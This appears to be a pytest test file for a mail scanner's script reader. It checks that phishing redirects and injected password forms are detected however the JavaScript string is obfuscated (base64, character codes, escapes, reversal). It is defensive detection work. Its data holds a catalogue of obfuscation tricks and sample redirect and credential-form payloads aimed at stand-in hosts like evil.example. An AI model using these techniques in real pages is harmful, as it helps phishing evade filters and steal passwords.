"""Addresses and pages that scripts put together: every way of spelling a string gives the same one."""

import base64
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.mail.html.script import MAX_FOUND, read_scripts
from gatepost.mail.message import Part
from gatepost.mail.text import TextReader

TARGET = "https://evil-login.example/x?u=1"
PAGE = '<form action="https://evil.example/post"><input type="password" name="p"></form>'


def _percent_u(text: str) -> str:
    return "".join(f"%u{ord(char):04x}" for char in text)


def _code(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


SPELLINGS: dict[str, Callable[[str], str]] = {
    "literal": lambda text: f"'{text}'",
    "double quotes": lambda text: '"' + text.replace('"', '\\"') + '"',
    "template": lambda text: f"`{text}`",
    "sum": lambda text: " + ".join(f"'{char}'" for char in text),
    "sum without blanks": lambda text: "+".join(f"'{text[at : at + 3]}'" for at in range(0, len(text), 3)),
    "sum over lines": lambda text: " +\n  ".join(f"'{text[at : at + 9]}'" for at in range(0, len(text), 9)),
    "join": lambda text: "[" + ",".join(f"'{char}'" for char in text) + "].join('')",
    "reverse": lambda text: f"'{text[::-1]}'.split('').reverse().join('')",
    "reversed list": lambda text: "[" + ",".join(f"'{char}'" for char in text[::-1]) + "].reverse().join('')",
    "atob": lambda text: f"atob('{base64.b64encode(text.encode()).decode()}')",
    "window.atob": lambda text: f'window.atob("{base64.b64encode(text.encode()).decode()}")',
    "atob of a sum": lambda text: (
        "atob(" + "+".join(f"'{char}'" for char in base64.b64encode(text.encode()).decode()) + ")"
    ),
    "fromCharCode": lambda text: f"String.fromCharCode({_code(text)})",
    "fromCharCode.apply": lambda text: f"String.fromCharCode.apply(null, [{_code(text)}])",
    "hexadecimal numbers": lambda text: "String.fromCharCode(" + ",".join(hex(ord(char)) for char in text) + ")",
    "unescape": lambda text: f"unescape('{quote(text, safe='')}')",
    "unescape, wide": lambda text: f"unescape('{_percent_u(text)}')",
    "decodeURIComponent": lambda text: f"decodeURIComponent('{quote(text)}')",
    "hexadecimal escapes": lambda text: "'" + "".join(f"\\x{ord(char):02x}" for char in text) + "'",
    "unicode escapes": lambda text: "'" + "".join(f"\\u{ord(char):04x}" for char in text) + "'",
    "code points": lambda text: "'" + "".join(f"\\u{{{ord(char):x}}}" for char in text) + "'",
    "replace": lambda text: f"'{'#!#'.join(text)}'.replaceAll('#!#', '')",
    "split and join": lambda text: f"'{'~'.join(text)}'.split('~').join('')",
    "concat": lambda text: f"'{text[:7]}'.concat('{text[7:]}')",
    "brackets": lambda text: f"(('{text[:7]}') + ('{text[7:]}'))",
    "comments": lambda text: f"'{text[:7]}' /* nothing */ + // more\n '{text[7:]}'",
}
SINKS = {
    "location": "location = {};",
    "location.href": "location.href={}",
    "window.location": "window.location = {}",
    "top": "top.location.href = {}",
    "brackets": "window.location['href'] = {};",
    "replace": "location.replace({});",
    "assign": "document.location.assign( {} )",
    "open": "var w = window.open({}, '_self')",
    "variable": "var a = {}; setTimeout(function () {{ window.location.href = a; }}, 10)",
    "two variables": "const a = {}\nlet b = a + ''\nlocation.replace(b)",
    "added": "var u = ''; u += {}; location.href = u",
    "template": "let u = {}; location.href = `${{u}}`",
}


@pytest.mark.parametrize("sink", SINKS)
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_the_browser_goes_there(spelling: str, sink: str) -> None:
    script = SINKS[sink].format(SPELLINGS[spelling](TARGET))
    assert read_scripts(script).navigations == [TARGET], script


WRITERS = (
    "document.write({})",
    "document.body.innerHTML = {}",
    "var p = {}; document.writeln(p)",
    "x.insertAdjacentHTML('beforeend', {})",
    "frame.srcdoc = {}",
    "$('#a').html({})",
    "eval('document.write(' + \"p\" + ')'); var q = {}; document.open()",
)


@pytest.mark.parametrize("writer", WRITERS[:-1])
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_written_pages_are_read(spelling: str, writer: str) -> None:
    reader = TextReader()
    script = writer.format(SPELLINGS[spelling](PAGE))
    reader.read(Part("1", content_type="text/html", content=f"<html><script>{script}</script></html>".encode()))
    assert {"html:script", "html:form", "html:password-field"} <= {defect.kind for defect in reader.defects}
    assert ("evil.example", "form") in {(link.host, link.source) for link in reader.links}


@pytest.mark.parametrize(
    "html",
    [
        "<script>location.replace('https://evil.example/a')</script>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location='https://evil.example/a'</script></svg>",
        "<svg onload=\"location.href='https://evil.example/a'\"></svg>",
        "<body onload='window.open(&quot;https://evil.example/a&quot;)'>",
        "<a href=\"javascript:location.href='https://evil.example/a'\">x</a>",
        '<script>eval("location=\'https://evil" + ".example/a\'")</script>',
        "<script>document.write('<meta http-equiv=refresh content=\"0;url=https://evil.example/a\">')</script>",
        "<img src=x onerror=\"location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==')\">",
    ],
)
@pytest.mark.parametrize("name", ["a.html", "a.svg"])
def test_addresses_in_scripts_are_links(html: str, name: str) -> None:
    reader = TextReader()
    reader.read(Part("1", names=(name,), content_type="application/octet-stream", content=html.encode()))
    assert ("https://evil.example/a", "refresh") in {(link.url, link.source) for link in reader.links}


def test_other_addresses_are_links_of_a_script() -> None:
    found = read_scripts(
        "fetch('https://a.example/x', {method: 'POST'}); img.src = 'https://b.example/p.gif?' + Date.now()"
    )
    assert (found.navigations, found.pages) == ([], [])
    assert found.addresses == ["https://a.example/x", "https://b.example/p.gif?"]


@pytest.mark.parametrize(
    "script",
    [
        "var a = 1 + 2;",
        "location.reload()",
        "if (location.href == 'x') { y() }",
        "var t = '<div>' + n + '</div>'",
        "a.href",
        "",
    ],
)
def test_ordinary_scripts_lead_nowhere(script: str) -> None:
    found = read_scripts(script)
    assert (found.navigations, found.addresses, found.pages) == ([], [], [])


@pytest.mark.parametrize(
    "piece",
    [
        "(",
        "[",
        "['",
        "'a'+",
        "a+",
        "`${",
        "atob(",
        "x=",
        "x+='a';",
        "\\",
        "/*",
        "'https://a.example/'+",
        "f(g(",
        ".a",
        "1,",
    ],
)
def test_giant_scripts_are_read_within_limits(piece: str) -> None:
    found = read_scripts(piece * (1_000_000 // len(piece)))
    assert max(map(len, (found.navigations, found.addresses, found.pages))) <= MAX_FOUND


@given(st.text(alphabet="ab=+'\"`()[]{}.,;$\\/ \n1x<>:", max_size=60))
def test_any_text(source: str) -> None:
    read_scripts(source)
    read_scripts(f"location = {source}; document.write({source})")
